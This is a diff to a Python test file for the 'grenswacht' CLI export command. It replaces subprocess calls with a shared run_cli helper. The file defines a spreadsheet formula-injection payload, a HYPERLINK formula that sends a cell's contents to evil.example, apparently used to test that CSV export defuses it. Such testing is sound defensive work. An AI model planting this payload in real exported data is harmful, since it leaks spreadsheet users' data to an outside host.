@@ -5,21 +5,18 @@ from __future__ import annotations
 import csv
 import io
 import json
-import subprocess
-import sys
 import time
-from pathlib import Path
 
 from agi.engine import Incident
+from tests.support.cli import run_cli
 
-SCRIPT = str(Path(sys.executable).with_name("grenswacht"))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def cli_export(tmp_path, redis_url: str, fmt: str) -> bytes:
     cfg = tmp_path / "grenswacht.toml"
     cfg.write_text(f'[redis]\nurl = "{redis_url}"\n')
-    out = subprocess.run([SCRIPT, "--config", str(cfg), "export", "--format", fmt], capture_output=True, timeout=60)
+    out = run_cli(["--config", str(cfg), "export", "--format", fmt], text=False)
     assert out.returncode == 0, out.stderr
     return out.stdout  # bytes: as written, line ends included
 
